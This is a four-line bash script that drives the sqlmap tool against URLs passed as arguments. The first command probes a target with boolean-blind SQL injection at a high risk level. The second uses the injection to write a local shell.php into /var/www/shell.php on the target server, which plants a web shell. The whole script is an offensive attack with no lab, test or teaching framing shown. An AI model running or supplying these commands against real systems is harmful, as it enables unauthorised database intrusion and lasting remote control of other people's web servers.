#!/usr/bin/env bash
set -euo pipefail
sqlmap --url="$1" --batch --technique=B --risk="${RISK:-3}"
sqlmap -u "$2" --batch --technique=B --file-write=shell.php --file-dest=/var/www/shell.php
